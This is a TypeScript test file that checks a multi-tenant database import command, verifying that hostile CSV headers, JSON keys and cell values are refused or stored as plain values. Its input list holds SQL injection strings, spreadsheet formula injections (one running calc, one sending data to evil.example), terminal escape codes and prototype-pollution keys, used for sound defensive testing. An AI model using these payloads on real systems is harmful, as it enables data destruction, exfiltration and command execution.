import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { asAdmin, createTestDatabase, createTestTenant, type TestDatabase } from '@formwork/testkit';
import { runHere, Scratch } from './command-line.ts';

/* What stands in the first line of a file is written by whoever made the file, and reaches no SQL and no terminal as it is. */

/** Each would do or break something if it were read as SQL, JSON path, JavaScript, a spreadsheet's formula or by a terminal. */
const hostile = [
  '"; drop table formwork.records; --',
  "name'; select pg_sleep(10); --",
  "name\\'; commit; --",
  "') or 1=1; --",
  '$$; drop schema formwork_views cascade; $$',
  '$1',
  '$."x" ? (@ like_regex ".*")',
  "data ->> 'secret'",
  'tenant_id',
  'deleted_at',
  '__proto__',
  'constructor',
  'toString',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\u001b[2J\u001b]0;owned\u0007',
  'line\nbreak',
  'nul\0byte',
  '\u202edesrever',
  'x'.repeat(5000),
  '{{7*7}}',
  '',
] as const;

const design = {
  formwork: 1,
  entities: [
    {
      key: 'note',
      fields: [
        { key: 'name', type: 'text', indexed: true },
        { key: 'extra', type: 'json' },
      ],
    },
  ],
} as const;

const scratch = new Scratch();
let database: TestDatabase;
let witness: string;

beforeAll(async () => {
  database = await createTestDatabase();
  await createTestTenant(database, 'hostile', design);
  const other = await createTestTenant(database, 'witness', design);
  await asAdmin(database, async (admin) => {
    await admin.query(`select set_config('app.tenant_id', $1, false)`, [other.tenantId]);
    await admin.query(
      `insert into formwork.records (entity_type, data) values ('note', '{"name": "witness"}')`,
    );
  });
  witness = await state();
});
afterAll(async () => {
  await database.drop();
  scratch.remove();
});
afterEach(async () => expect(await state()).toBe(witness));

const importFile = (file: string, ...options: string[]) =>
  runHere(['import', '--tenant', 'hostile', '--entity', 'note', file, ...options], {
    environment: { DATABASE_URL: database.adminUrl },
  });

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** What hostile SQL would have changed, and the other tenant's records. Roles belong to the server, where other tests make some. */
async function state(): Promise<string> {
  const { rows } = await asAdmin(database, (admin) =>
    admin.query(`select (select count(*) from pg_class where relnamespace = 'formwork'::regnamespace) as tables,
      (select count(*) from pg_roles where rolname not like 'test\\_role%') as roles,
      (select string_agg(relacl::text, ' ' order by oid) from pg_class where relnamespace = 'formwork'::regnamespace) as grants,
      (select jsonb_agg(r.data) from formwork.records r join formwork.tenants t on t.id = r.tenant_id where t.slug = 'witness') as records`),
  );
  return JSON.stringify(rows);
}

async function names(): Promise<string[]> {
  const { rows } = await asAdmin(database, (admin) =>
    admin.query<{ name: string }>(
      `select r.data ->> 'name' as name from formwork.records r join formwork.tenants t on t.id = r.tenant_id
        where t.slug = 'hostile' order by r.id`,
    ),
  );
  return rows.map(({ name }) => name);
}

test.each(hostile)('the column %j is refused by its name, and nothing is written', async (header) => {
  const { code, stdout, stderr } = await importFile(
    scratch.file('header.csv', `name,${cell(header)}\nfirst,1\n`),
  );
  expect([code, stdout]).toEqual([1, '']);
  expect(stderr).not.toMatch(/\n\s+at |syntax error|INTERNAL/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: a terminal would do what they say
  expect(stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
  expect(await names()).toEqual([]);
});

test('columns of any name may be mapped and skipped, and give values and nothing else', async () => {
  const known = hostile.filter((header) => !/\0/.test(header) && header !== '');
  const line = known.map(cell).join();
  const file = scratch.file('mapped.csv', `${line}\n${line}\n`);
  const skipped = known.slice(1).flatMap((header) => ['--skip', header]);
  const { code, stderr } = await importFile(file, '--map', `${known[0]}=name`, ...skipped);
  expect([stderr, code]).toEqual([expect.anything(), 0]);
  expect(await names()).toEqual([known[0]]);
});

test('keys of JSON lines are refused row by row', async () => {
  const before = await names();
  const lines = hostile.map((key) => `{${JSON.stringify(key)}: 1, "name": "x"}`).join('\n');
  const { code, stderr } = await importFile(scratch.file('keys.jsonl', `{"name": "good"}\n${lines}\n`));
  expect(code).toBe(1);
  expect(stderr).not.toMatch(/\n\s+at |syntax error|INTERNAL/);
  expect(await names()).toEqual([...before, 'good']);
});

test('cells are values, whatever they look like, and rows that are rejected come back as they were', async () => {
  const before = await names();
  const values = hostile.filter((text) => !/\0/.test(text) && text.length < 1000 && text !== '');
  const rows = values.map((text) => `${cell(text)},\n`).join('');
  const bad = values.map((text) => `${cell(text)},{\n`).join('');
  const rejects = join(scratch.path, 'rejects.jsonl');
  const { stderr } = await importFile(
    scratch.file('cells.csv', `name,extra\n${rows}${bad}`),
    '--rejects',
    rejects,
  );
  expect(stderr).not.toMatch(/\n\s+at |syntax error|INTERNAL/);
  expect(await names()).toEqual([...before, ...values]);
  const returned = readFileSync(rejects, 'utf8');
  for (const text of values) expect(returned).toContain(JSON.stringify(text));
});
